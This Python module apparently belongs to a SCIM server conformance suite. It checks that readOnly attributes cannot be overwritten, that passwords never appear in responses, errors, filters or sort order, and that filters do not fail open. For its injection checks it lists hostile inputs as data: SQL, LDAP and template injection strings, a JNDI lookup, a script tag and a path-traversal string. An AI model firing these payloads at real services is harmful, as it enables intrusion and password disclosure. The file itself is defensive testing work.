"""What must not be told or written: passwords, readOnly attributes; filters that fail open."""

import json

from scimcore import urns
from scimcore.conformance.check import Check, check, collected
from scimcore.conformance.exchange import Answer
from scimcore.conformance.outcomes import MUST, SHOULD
from scimcore.conformance.probe import Made, Probe, encode
from scimcore.conformance.suites.attacking import REFUSED, attack, require_control
from scimcore.conformance.suites.patching import add, replace
from scimcore.documents import Document

CORE = urns.USER

# What readOnly attributes are called to get around the rule.
READ_ONLY: tuple[tuple[str, Document], ...] = (
    ("id", {"id": "mine-{tag}"}),
    ("id-case", {"ID": "mine-{tag}"}),
    ("id-urn", {f"{CORE}:id": "mine-{tag}"}),
    ("groups", {"groups": [{"value": "admins-{tag}"}]}),
    ("groups-case", {"GROUPS": [{"value": "admins-{tag}"}]}),
    ("groups-urn", {f"{CORE}:groups": [{"value": "admins-{tag}"}]}),
    ("meta", {"meta": {"created": "2001-01-01T00:00:00Z"}}),
    ("meta-dotted", {"meta.created": "2001-01-01T00:00:00Z"}),
)  # fmt: skip


def _read_only_checks() -> list[Check]:
    found: list[Check] = []
    for id, attributes in READ_ONLY:

        def posted(probe: Probe, attributes: Document = attributes) -> None:
            answer = probe.post(probe.user.endpoint, {**probe.new(probe.user), **probe.filled(attributes)})
            require_control(probe, answer)
            if answer.status == 201:
                _require_not_taken(probe, f"{probe.user.endpoint}/{answer.document.get('id')}")

        def put(probe: Probe, attributes: Document = attributes) -> None:
            made = probe.new_user()
            body = {
                **{k: v for k, v in made.document.items() if k not in ("id", "meta", "groups")},
                **probe.filled(attributes),
            }
            answer = probe.put(made.path, body)
            require_control(probe, answer)
            _require_not_taken(probe, made.path)

        def patched(probe: Probe, attributes: Document = attributes) -> None:
            made = probe.new_user()
            for op in ("add", "replace"):
                answer = probe.patch(made.path, {"op": op, "value": probe.filled(attributes)})
                require_control(probe, answer)
            _require_not_taken(probe, made.path)

        def patched_path(probe: Probe, attributes: Document = attributes) -> None:
            made = probe.new_user()
            for path, value in probe.filled(attributes).items():
                answer = probe.patch(made.path, add(path, value))
                require_control(probe, answer)
                answer.expect(400)
            _require_not_taken(probe, made.path)

        rows = (
            ("post", "POST", posted, ("User",)),
            ("put", "PUT", put, ("User",)),
            ("patch", "PATCH without a path", patched, ("User", "patch")),
            ("patch-path", "PATCH with a path", patched_path, ("User", "patch")),
        )
        found += [
            attack(
                f"read-only-{id}-{way}",
                "S6",
                f"{title} cannot write {next(iter(attributes))}",
                function,
                MUST,
                "readOnly holds on every way in",
                needs,
            )
            for way, title, function, needs in rows
        ]
    return found


def _require_not_taken(probe: Probe, path: str) -> None:
    document = probe.read(path)
    text = json.dumps(document)
    probe.require(
        f"mine-{probe.tag}" not in text and f"admins-{probe.tag}" not in text, "nothing of the client's", text
    )
    probe.require(
        document.get("meta", {}).get("created") != "2001-01-01T00:00:00Z", "created of the service's own", text
    )


PASSWORD = ("User.password",)


def _with_password(probe: Probe, word: str) -> Made:
    return probe.new_user(password=word)


def _require_no_password(probe: Probe, word: str, *answers: Answer) -> None:
    for answer in answers:
        require_control(probe, answer)
        probe.require(word.encode() not in answer.body, "no password in the answer", "the password")
        for name, value in answer.headers:
            probe.require(word not in value, f"no password in {name}", "the password")


@check("security-S14-password-answers", "No answer to a write has the password", needs=PASSWORD)
def password_answers(probe: Probe) -> None:
    word = probe.password()
    made = _with_password(probe, word)
    body = {**probe.new(probe.user), "userName": made.document["userName"], "password": word}
    _require_no_password(probe, word, made.answer, probe.put(made.path, body), probe.get(made.path))
    if probe.target.supports("patch"):
        _require_no_password(probe, word, probe.patch(made.path, replace("password", word)))


@check("security-S14-password-asked-for", "A password cannot be asked for", needs=PASSWORD)
def password_asked_for(probe: Probe) -> None:
    word = probe.password()
    made = _with_password(probe, word)
    for query in ("password", "PASSWORD", f"{CORE}:password", "userName,password"):
        answer = probe.get(made.path, attributes=query)
        _require_no_password(probe, word, answer)
        probe.require(answer.status != 200 or b"password" not in answer.body.lower(), "no password", "a password")
    _require_no_password(probe, word, probe.get(probe.user.endpoint, attributes="password", count=500))


@check(
    "security-S14-password-errors", "An error about a body with a password does not quote the password", needs=PASSWORD
)
def password_errors(probe: Probe) -> None:
    word = probe.password()
    body = {**probe.new(probe.user), "password": word}
    answers = [
        probe.post(probe.user.endpoint, {**body, "userName": ""}),
        probe.post(probe.user.endpoint, {**body, "active": {"a": word}}),
        probe.post(probe.user.endpoint, {**body, "password": [word]}),
        probe.post(probe.user.endpoint, {**body, "password": {"value": word}}),
        probe.post(probe.user.endpoint, encode(body)[:-1]),
    ]
    _require_no_password(probe, word, *answers)


@check(
    "security-S14-password-patch-errors",
    "An error about a PATCH of a password does not quote the password",
    needs=("User.password", "patch"),
)
def password_patch_errors(probe: Probe) -> None:
    word = probe.password()
    made = probe.new_user()
    answers = [
        probe.patch(made.path, replace("password", {"x": word})),
        probe.patch(made.path, replace("password", [word, word])),
        probe.patch(made.path, replace("password.x", word)),
        probe.patch(made.path, replace(f'password[value eq "{word}"]', word)),
        probe.patch(made.path, replace("password", word), replace("id", "x")),
    ]
    _require_no_password(probe, word, *answers)


@check(
    "security-S9-password-filter",
    "A filter cannot tell what a password is",
    needs=("User.password", "filter"),
    hint="a filter on what is never returned is an oracle: refuse it with 400 or 403",
)
def password_filter(probe: Probe) -> None:
    word = probe.password()
    made = _with_password(probe, word)
    name = made.document["userName"]
    for operator, right, wrong in (
        ("eq", word, f"x{word}"),
        ("sw", word[:4], "zz"),
        ("co", word[3:8], "zz"),
        ("gt", "A", "zz"),
        ("ge", "A", "zz"),
        ("ew", word[-3:], "zz"),
    ):
        answers = [
            probe.get(probe.user.endpoint, filter=f'userName eq "{name}" and password {operator} "{value}"')
            for value in (right, wrong)
        ]
        for answer in answers:
            require_control(probe, answer)
        found = [len(answer.resources) if answer.status == 200 else -1 for answer in answers]
        probe.require(
            found[0] == found[1], f"the same for right and wrong in password {operator}", f"{found[0]} and {found[1]}"
        )


@check(
    "security-S9-password-presence",
    "A filter cannot tell whether there is a password",
    needs=("User.password", "filter"),
    level=SHOULD,
)
def password_presence(probe: Probe) -> None:
    names = [_with_password(probe, probe.password()).document["userName"], probe.new_user().document["userName"]]
    answers = [probe.get(probe.user.endpoint, filter=f'userName eq "{name}" and password pr') for name in names]
    found = [len(answer.resources) if answer.status == 200 else -1 for answer in answers]
    probe.require(found[0] == found[1], "the same with and without a password", f"{found[0]} and {found[1]}")


@check(
    "security-S9-password-value-path", "A value path cannot tell what a password is", needs=("User.password", "filter")
)
def password_qualified(probe: Probe) -> None:
    word = probe.password()
    made = _with_password(probe, word)
    for path in (f"{CORE}:password", "PASSWORD"):
        answer = probe.get(
            probe.user.endpoint, filter=f'userName eq "{made.document["userName"]}" and {path} eq "{word}"'
        )
        require_control(probe, answer)
        probe.require(
            answer.status != 200 or not answer.resources,
            "nobody, or a refusal",
            f"{len(answer.resources) if answer.status == 200 else 0} users",
        )


@check(
    "security-S9-password-sort", "An order cannot tell what passwords are", needs=("User.password", "filter", "sort")
)
def password_sort(probe: Probe) -> None:
    pairs = [(f"order{n}.{probe.tag}@example.com", f"{letter}{probe.password()}") for n, letter in enumerate("ZAMBY")]
    probe.service.secrets.extend(word for _, word in pairs)
    users = {probe.new_user(userName=name, password=word).id: word for name, word in pairs}
    answer = probe.get(probe.user.endpoint, filter=f'userName co "{probe.tag}"', sortBy="password")
    require_control(probe, answer)
    if answer.status == 200:
        words = [users[id] for resource in answer.resources if (id := str(resource.get("id"))) in users]
        probe.require(
            words != sorted(words, key=str.lower) or len(words) < 3,
            "no order by password",
            "users in the order of their passwords",
        )


@check(
    "security-S9-unknown-attribute",
    "A filter on an unknown attribute finds nobody, or is refused",
    needs=("User", "filter"),
    hint="never everybody: a client that deprovisions what it finds would deprovision all",
)
def unknown_attribute(probe: Probe) -> None:
    probe.new_user()
    answer = probe.get(probe.user.endpoint, filter='noSuchAttribute eq "x"')
    require_control(probe, answer)
    probe.require(
        answer.status in (400, 403) or not answer.expect(200).resources,
        "nobody, or 400",
        f"{len(answer.resources) if answer.status == 200 else 0} users",
    )


@check("security-S9-unknown-in-and", "An unknown attribute in an and is not dropped", needs=("User", "filter"))
def unknown_in_and(probe: Probe) -> None:
    name = probe.new_user().document["userName"]
    answer = probe.get(probe.user.endpoint, filter=f'userName eq "{name}" and noSuchAttribute eq "x"')
    require_control(probe, answer)
    probe.require(answer.status in (400, 403) or not answer.expect(200).resources, "nobody, or 400", "the user")


@check("security-S9-unknown-sub-attribute", "An unknown sub-attribute is not dropped", needs=("User.emails", "filter"))
def unknown_sub_attribute(probe: Probe) -> None:
    mail = f"m.{probe.tag}@example.com"
    probe.new_user(emails=[{"value": mail, "type": "work"}])
    answer = probe.get(probe.user.endpoint, filter=f'emails[value eq "{mail}" and noSuchPart eq "x"]')
    require_control(probe, answer)
    probe.require(answer.status in (400, 403) or not answer.expect(200).resources, "nobody, or 400", "the user")


@check("security-S9-many-terms", "A filter of 300 terms is answered rightly, or refused", needs=("User", "filter"))
def many_terms(probe: Probe) -> None:
    made = probe.new_user()
    terms = " or ".join([f'userName eq "n{number}.{probe.tag}"' for number in range(299)] + [f'id eq "{made.id}"'])
    answer = probe.get(probe.user.endpoint, filter=terms)
    require_control(probe, answer)
    if answer.status == 200:
        ids = [resource.get("id") for resource in answer.resources]
        probe.require(ids == [made.id], "the one user", f"{len(ids)} users")
    else:
        answer.expect(*REFUSED)


INJECTIONS = (
    "' or '1'='1",
    '\\" or userName pr or userName eq \\"',
    "*)(uid=*",
    "%",
    "_",
    "${jndi:ldap://x.invalid/a}",
    "{{7*7}}",
    "\\u0000",
    "'; drop table users; --",
)


@check("security-S9-injection", "Texts of other query languages are data in a filter", needs=("User", "filter"))
def injection(probe: Probe) -> None:
    probe.new_user()
    for text in INJECTIONS:
        answer = probe.get(probe.user.endpoint, filter=f'userName eq "{text}"')
        require_control(probe, answer)
        probe.require(answer.status == 400 or not answer.expect(200).resources, f"nobody for {text}", "somebody")


@check("security-S9-stored-texts", "Texts of other languages are data in a resource", needs=("User.displayName",))
def stored_texts(probe: Probe) -> None:
    for text in (
        "'; drop table users; --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${7*7}",
        "%s%s%n",
        "../../etc/passwd",
        "=1+1",
    ):
        made = probe.new_user(displayName=text)
        probe.expect({"displayName": text}, probe.read(made.path))


CHECKS = (*collected(globals()), *_read_only_checks())
